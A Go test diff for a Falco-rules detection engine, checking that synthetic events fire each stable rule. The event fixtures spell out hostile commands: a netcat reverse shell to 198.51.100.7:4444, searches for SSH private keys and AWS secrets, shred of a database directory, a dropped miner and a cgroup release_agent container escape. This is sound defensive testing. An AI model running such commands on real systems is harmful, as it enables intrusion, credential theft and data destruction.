@@ -2,6 +2,7 @@ package engine
 
 import (
 	"os"
+	"path/filepath"
 	"slices"
 	"sync"
 	"testing"
@@ -15,12 +16,17 @@ import (
 
 const stableRules = "../../../shared/falco/falco_rules.yaml"
 
-func loadStable(t testing.TB) *rules.Ruleset {
+// loadStable loads Falco's stable rules, then the extra files, with a host
+// resolver of the test's own (the system's resolver, stopped when the test
+// ends), so that no lookup outlives the test.
+func loadStable(t testing.TB, extra ...string) *rules.Ruleset {
 	t.Helper()
 	if _, err := os.Stat(stableRules); err != nil {
 		t.Skipf("Falco rules fixture not found: %v", err)
 	}
-	rs, _, err := rules.Load(stableRules)
+	h := rules.NewHostResolver(rules.HostResolverOptions{})
+	t.Cleanup(h.Close)
+	rs, _, err := rules.LoadWith(rules.LoadOptions{Hosts: h}, append([]string{stableRules}, extra...)...)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -52,7 +58,16 @@ func ruleNames(as []*alert.Alert) []string {
 }
 
 func TestStableRulesFire(t *testing.T) {
-	rs := loadStable(t)
+	// Contact K8S API Server From Container compares the server with the
+	// addresses of kubernetes.default.svc.cluster.local, which does not
+	// resolve outside a cluster: a local rules file, as users write, points
+	// its macro at localhost, which does. Every other stable rule fires with
+	// Falco's file as it is.
+	local := filepath.Join(t.TempDir(), "local.yaml")
+	if err := os.WriteFile(local, []byte("- macro: k8s_api_server\n  condition: (fd.sip.name = localhost)\n  override:\n    condition: replace\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	rs := loadStable(t, local)
 	e := newEngine(t, rs, MatchAll)
 
 	shellInContainer := func() *event.Event {
@@ -71,6 +86,12 @@ func TestStableRulesFire(t *testing.T) {
 		ln := proc(211, "ln", "/usr/bin/ln", hostChain(), "-s", "/etc/shadow", "/tmp/x")
 		ev := newEvent(event.TypeSymlinkat, ln)
 		ev.Args.Path, ev.Args.Path2, ev.Args.DirFd2 = "/etc/shadow", "/tmp/x", unix.AT_FDCWD
+		return ev
+	}
+	hardlink := func() *event.Event {
+		ln := proc(211, "ln", "/usr/bin/ln", hostChain(), "/etc/shadow", "/tmp/h")
+		ev := newEvent(event.TypeLinkat, ln)
+		ev.Args.Path, ev.Args.Path2, ev.Args.DirFd, ev.Args.DirFd2 = "/etc/shadow", "/tmp/h", unix.AT_FDCWD, unix.AT_FDCWD
 		return ev
 	}
 	ptraceAttach := func(req int64) *event.Event {
@@ -105,29 +126,107 @@ func TestStableRulesFire(t *testing.T) {
 		ev.Args.ExeFromMemfd = true
 		return ev
 	}
+	traversal := func() *event.Event {
+		node := proc(217, "node", "/usr/bin/node", hostChain())
+		p := proc(218, "node", "/usr/bin/node", node, "server.js")
+		ev := openEvent(p, "/etc/passwd", unix.O_RDONLY, 5, nil)
+		ev.Args.Path = "/srv/www/../../etc/passwd"
+		ev.FD.NameRaw = ev.Args.Path
+		return ev
+	}
+	trustedLate := func() *event.Event {
+		p := proc(219, "nginx", "/usr/sbin/nginx", hostChain()) // started 60 s before the event
+		return openEvent(p, "/etc/shadow", unix.O_RDONLY, 5, containerMeta())
+	}
+	exec := func(name, exe string, parent *event.Process, meta *event.Metadata, args ...string) *event.Event {
+		return execEvent(proc(230, name, exe, parent, args...), meta)
+	}
+	nginx := proc(231, "nginx", "/usr/sbin/nginx", hostChain())
+	systemUser := func() *event.Event {
+		ev := exec("login", "/usr/bin/login", hostChain(), nil)
+		ev.UID = 33 // www-data
+		return ev
+	}
+	redirect := func() *event.Event {
+		p := proc(232, "bash", "/bin/bash", proc(233, "python3", "/usr/bin/python3", nil))
+		ev := newEvent(event.TypeDup2, p)
+		ev.Args.Fd, ev.Args.Fd2, ev.Ret = 5, 0, 0
+		ev.FD = connectEvent(p, "198.51.100.7:4444", nil).FD
+		ev.Meta = containerMeta()
+		return ev
+	}
+	privileged := func() *event.Metadata { m := containerMeta(); m.Privileged = true; return m }
+	releaseAgent := func() *event.Event {
+		p := proc(234, "sh", "/bin/sh", nil)
+		ev := openEvent(p, "/sys/fs/cgroup/rdma/release_agent", unix.O_WRONLY, 3, containerMeta())
+		ev.CapEffective = 1 << 21 // CAP_SYS_ADMIN, with uid 0
+		return ev
+	}
+	dropped := func() *event.Event {
+		ev := exec("xmrig", "/tmp/xmrig", nil, containerMeta())
+		ev.Proc.ExeUpperLayer, ev.Args.ExeUpperLayer = true, true
+		return ev
+	}
+	sshOut := func(remote string) *event.Event {
+		p := proc(235, "ssh", "/usr/bin/ssh", hostChain(), "-p", "443", "user@example.com")
+		return connectEvent(p, remote, nil)
+	}
+	k8sAPI := func(remote string) *event.Event {
+		p := proc(236, "curl", "/usr/bin/curl", nil, "https://kubernetes.default")
+		return connectEvent(p, remote, containerMeta())
+	}
+	// The override's name resolves in the background: wait for it.
+	for deadline := time.Now().Add(10 * time.Second); !slices.Contains(ruleNames(fired(e, k8sAPI("127.0.0.1:443"))), "Contact K8S API Server From Container"); time.Sleep(10 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatal("localhost never resolved")
+		}
+	}
 
 	cases := []struct {
 		name string
 		ev   *event.Event
 		want string
 	}{
-		{"terminal shell in container", shellInContainer(), "Terminal shell in container"},
+		{"traversal to /etc/passwd", traversal(), "Directory traversal monitored file read"},
+		{"nginx reads shadow long after start", trustedLate(), "Read sensitive file trusted after startup"},
 		{"cat /etc/shadow", catShadow(), "Read sensitive file untrusted"},
+		{"shell under nginx", exec("bash", "/bin/bash", nginx, nil, "-i"), "Run shell untrusted"},
+		{"www-data logs in", systemUser(), "System user interactive"},
+		{"terminal shell in container", shellInContainer(), "Terminal shell in container"},
+		{"container calls the API server", k8sAPI("127.0.0.1:443"), "Contact K8S API Server From Container"},
+		{"nc -e in a container", exec("nc", "/usr/bin/nc", nil, containerMeta(), "-e", "/bin/sh", "198.51.100.7", "4444"), "Netcat Remote Code Execution in Container"},
+		{"find id_rsa", exec("find", "/usr/bin/find", hostChain(), nil, "/", "-name", "id_rsa"), "Search Private Keys or Passwords"},
+		{"truncate a log", truncLog(), "Clear Log Activities"},
+		{"shred", exec("shred", "/usr/bin/shred", hostChain(), nil, "-u", "/var/lib/db"), "Remove Bulk Data from Disk"},
 		{"symlink to /etc/shadow", symlink(), "Create Symlink Over Sensitive Files"},
+		{"hardlink to /etc/shadow", hardlink(), "Create Hardlink Over Sensitive Files"},
+		{"packet socket", packetSocket(), "Packet socket created in container"},
+		{"stdin from a socket", redirect(), "Redirect STDOUT/STDIN to Network Connection in Container"},
+		{"kernel module", kmod(), "Linux Kernel Module Injection Detected"},
+		{"debugfs in a privileged container", exec("debugfs", "/usr/sbin/debugfs", nil, privileged(), "/dev/sda1"), "Debugfs Launched in Privileged Container"},
+		{"release_agent write", releaseAgent(), "Detect release_agent File Container Escapes"},
 		{"ptrace attach", ptraceAttach(unix.PTRACE_ATTACH), "PTRACE attached to process"},
 		{"ptrace traceme", ptraceAttach(unix.PTRACE_TRACEME), "PTRACE anti-debug attempt"},
-		{"packet socket", packetSocket(), "Packet socket created in container"},
-		{"kernel module", kmod(), "Linux Kernel Module Injection Detected"},
-		{"truncate a log", truncLog(), "Clear Log Activities"},
+		{"grep for AWS keys", exec("grep", "/usr/bin/grep", hostChain(), nil, "-r", "aws_secret_access_key", "/home"), "Find AWS Credentials"},
+		{"run from /dev/shm", exec("x", "/dev/shm/x", hostChain(), nil), "Execution from /dev/shm"},
+		{"binary written in the container", dropped(), "Drop and execute new binary in container"},
+		{"ssh to port 443", sshOut("93.184.216.34:443"), "Disallowed SSH Connection Non Standard Port"},
 		{"memfd exec", memfdExec(), "Fileless execution via memfd_create"},
 	}
+	covered := map[string]bool{}
 	for _, tc := range cases {
+		covered[tc.want] = true
 		t.Run(tc.name, func(t *testing.T) {
 			got := ruleNames(fired(e, tc.ev))
 			if !slices.Contains(got, tc.want) {
 				t.Errorf("fired %v, want %q among them", got, tc.want)
 			}
 		})
+	}
+	for _, r := range rs.Rules() {
+		if !covered[r.Name] {
+			t.Errorf("stable rule %q has no event that fires it", r.Name)
+		}
 	}
 
 	quiet := []struct {
@@ -144,6 +243,16 @@ func TestStableRulesFire(t *testing.T) {
 			p := proc(221, "sshd", "/usr/sbin/sshd", hostChain())
 			return openEvent(p, "/etc/shadow", unix.O_RDONLY, 3, nil)
 		}()},
+		{"container calls another server", k8sAPI("10.96.0.10:443")},
+		{"ssh inside the private network", sshOut("10.0.0.7:443")},
+		{"ssh to port 22", sshOut("93.184.216.34:22")},
+		{"debugfs in an unprivileged container", exec("debugfs", "/usr/sbin/debugfs", nil, containerMeta())},
+		{"grep for a word", exec("grep", "/usr/bin/grep", hostChain(), nil, "-r", "TODO", "/src")},
+	}
+	early := trustedLate()
+	early.Proc.StartTS = early.Timestamp - 1_000_000_000
+	if got := ruleNames(fired(e, early)); slices.Contains(got, "Read sensitive file trusted after startup") {
+		t.Errorf("nginx reading /etc/shadow 1 s after start fired %v", got)
 	}
 	for _, tc := range quiet {
 		t.Run("quiet/"+tc.name, func(t *testing.T) {
@@ -296,5 +405,43 @@ func TestReloadKeepsWorkingRuleset(t *testing.T) {
 	}
 	if got := ruleNames(fired(e, ev)); !slices.Equal(got, []string{"A"}) {
 		t.Errorf("after a failed reload fired %v, want [A]", got)
+	}
+}
+
+// TestStableRulesNoAllocPerEvent checks what BenchmarkStableRuleset reports:
+// in steady state, the stable rules evaluate its event mix without
+// allocating: not one allocation over ten passes of its 100 events.
+func TestStableRulesNoAllocPerEvent(t *testing.T) {
+	if _, err := os.Stat(stableRules); err != nil {
+		t.Skipf("Falco rules fixture not found: %v", err)
+	}
+	// A resolver stopped before measuring: no lookup allocates meanwhile.
+	h := rules.NewHostResolver(rules.HostResolverOptions{})
+	rs, _, err := rules.LoadWith(rules.LoadOptions{Hosts: h}, stableRules)
+	h.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := newEngine(t, rs, MatchFirst)
+	evs := eventMix()
+	alerts := 0
+	emit := func(*alert.Alert) { alerts++ }
+	for _, ev := range evs { // warm up scratch buffers
+		e.Process(ev, emit)
+	}
+	// One measured run of ten passes: AllocsPerRun truncates the mean, so
+	// more runs would hide an allocation on fewer than one run in N.
+	allocs := testing.AllocsPerRun(1, func() {
+		for range 10 {
+			for _, ev := range evs {
+				e.Process(ev, emit)
+			}
+		}
+	})
+	if alerts != 0 {
+		t.Fatalf("the benign mix fired %d alerts", alerts)
+	}
+	if allocs != 0 {
+		t.Errorf("%v allocations over ten passes of the %d events of the mix, want 0", allocs, len(evs))
 	}
 }
